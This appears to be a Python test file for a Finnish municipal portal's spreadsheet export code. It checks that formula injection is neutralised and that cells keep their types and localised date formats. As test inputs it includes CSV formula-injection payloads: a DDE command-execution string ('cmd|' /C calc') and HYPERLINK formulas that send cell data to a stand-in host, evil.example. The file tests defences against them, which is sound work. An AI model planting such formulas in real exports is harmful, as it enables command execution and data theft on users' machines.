"""Spreadsheet exports: formula injection is neutralised, cells keep their types."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.utils import translation
from openpyxl import load_workbook

from kuntaportaali.spreadsheets import (
    EUROS,
    INTEGER,
    PERCENT,
    Column,
    csv_bytes,
    spreadsheet_safe,
    xlsx_bytes,
    xlsx_saved,
    xlsx_sheet_add,
    xlsx_workbook,
)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+358401234567", "'+358401234567"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Matti", "Matti"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_spreadsheet_safe(value, expected):
    assert spreadsheet_safe(value) == expected


COLUMNS = [Column("Time", width=20), Column("Text", width=30), Column("Count", number_format="0"), Column("Day")]
ROWS = [
    [datetime(2025, 12, 8, 8, 30, tzinfo=UTC), '=HYPERLINK("http://evil.example","x")', 7, date(2025, 12, 8)],
    [datetime(2025, 6, 2, 9, 0, tzinfo=UTC), "Ääkköset ok", Decimal("1.5"), None],
]


def test_csv_has_bom_semicolons_local_times_and_escaped_formulas():
    content = csv_bytes(columns=COLUMNS, rows=ROWS)

    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Time", "Text", "Count", "Day"]
    assert rows[1] == ["2025-12-08 10:30:00", '\'=HYPERLINK("http://evil.example","x")', "7", "2025-12-08"]
    assert rows[2] == ["2025-06-02 12:00:00", "Ääkköset ok", "1.5", ""]


def test_xlsx_has_typed_cells_and_a_frozen_bold_filtered_header():
    sheet = load_workbook(io.BytesIO(xlsx_bytes(title="Export", columns=COLUMNS, rows=ROWS))).active

    assert sheet.title == "Export"
    assert [cell.value for cell in sheet[1]] == ["Time", "Text", "Count", "Day"]
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:D3"
    assert sheet["A2"].value == datetime(2025, 12, 8, 10, 30)  # Helsinki wall-clock time, naive
    assert sheet["A2"].is_date
    assert sheet["A3"].value == datetime(2025, 6, 2, 12, 0)  # summer time
    # The text as it was given, a text cell Excel shows and edits as text (its "'" prefix as a style).
    assert sheet["B2"].value == '=HYPERLINK("http://evil.example","x")'
    assert (sheet["B2"].data_type, sheet["B2"].quotePrefix) == ("s", True)
    assert sheet["B3"].quotePrefix is False
    assert (sheet["C2"].value, sheet["C2"].data_type, sheet["C2"].number_format) == (7, "n", "0")
    assert sheet["D2"].is_date
    assert sheet.column_dimensions["B"].width == 30


@pytest.mark.parametrize(
    ("language", "date_format", "datetime_format"),
    [
        ("fi", "d.m.yyyy", "d.m.yyyy h.mm"),  # 8.12.2025 10.30, as the page and the PDF write it
        ("sv", "d.m.yyyy", "d.m.yyyy hh.mm"),
        ("en", "dd/mm/yyyy", "dd/mm/yyyy hh:mm"),
    ],
)
def test_xlsx_dates_are_date_cells_shown_in_the_active_languages_style(language, date_format, datetime_format):
    with translation.override(language):
        content = xlsx_bytes(title="Export", columns=COLUMNS, rows=ROWS)
    sheet = load_workbook(io.BytesIO(content)).active

    assert (sheet["D2"].value, sheet["D2"].is_date, sheet["D2"].number_format) == (
        datetime(2025, 12, 8),
        True,
        date_format,
    )
    assert (sheet["A2"].is_date, sheet["A2"].number_format) == (True, datetime_format)


def test_csv_dates_stay_iso_in_every_language():
    with translation.override("en"):
        content = csv_bytes(columns=COLUMNS, rows=ROWS, language="en")

    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=","))
    assert (rows[1][0], rows[1][3]) == ("2025-12-08 10:30:00", "2025-12-08")


def test_a_workbook_holds_its_sheets_in_the_order_they_are_added():
    workbook = xlsx_workbook()
    for title in ("Yhteenveto", "Kysymykset"):
        xlsx_sheet_add(workbook, title=title, columns=[Column("A")], rows=[[1]])

    book = load_workbook(io.BytesIO(xlsx_saved(workbook)))

    assert book.sheetnames == ["Yhteenveto", "Kysymykset"]
    assert all(sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:A2" for sheet in book.worksheets)


def test_a_last_column_of_mixed_figures_takes_each_rows_own_format():
    workbook = xlsx_workbook()
    rows = [["Numbers", 120], ["Response rate", 0.25], ["Total (EUR)", Decimal("7.20")], ["Note", "text"]]

    sheet = xlsx_sheet_add(
        workbook,
        title="Summary",
        columns=[Column("Item"), Column("Value", number_format=INTEGER)],
        rows=rows,
        last_column_formats=[None, PERCENT, EUROS, PERCENT],
    )

    assert [sheet.cell(row=row, column=2).number_format for row in range(2, 6)] == [INTEGER, PERCENT, EUROS, "General"]


def test_text_and_dates_in_a_number_column_keep_their_own_formats():
    """A count column's "hidden" says so as text, not as a number format that hides nothing."""
    workbook, columns = xlsx_workbook(), [Column("Answers", number_format=INTEGER)]

    with translation.override("fi"):
        sheet = xlsx_sheet_add(workbook, title="t", columns=columns, rows=[["hidden"], [date(2026, 3, 1)]])

    assert [sheet.cell(row=row, column=1).number_format for row in (2, 3)] == ["General", "d.m.yyyy"]


# A file's separator is the one of the language asked for, but a spreadsheet program splits a CSV file
# at its own computer's list separator: "," in an English Windows, ";" in a Finnish one. A text holding
# the other separator must not be cut there into a cell that starts a formula.
SPLIT_FORMULAS = [
    "Kallio,=1+2+cmd|' /C calc'!A0,",
    'Töölö;=HYPERLINK(CONCATENATE("http://evil.example/?",A1));',
    "Vuosaari,+358401234567",
    "Pasila;@SUM(A1:A9)",
    "Kamppi,-2+3",
]


@pytest.mark.parametrize("language", [None, "fi", "sv", "en"])
@pytest.mark.parametrize("read_with", [";", ","])
def test_a_text_with_a_separator_is_one_cell_and_no_formula_whichever_separator_opens_the_file(language, read_with):
    content = csv_bytes(
        columns=[Column("Unit,=1+1"), Column("Count")],
        rows=[[text, 3] for text in SPLIT_FORMULAS],
        language=language,
    )

    text = content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=read_with) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    own_delimiter = ";" if language in (None, "fi", "sv") else ","
    rows = list(csv.reader(io.StringIO(text), delimiter=own_delimiter))
    assert rows == [["Unit,=1+1", "Count"], *([value, "3"] for value in SPLIT_FORMULAS)]
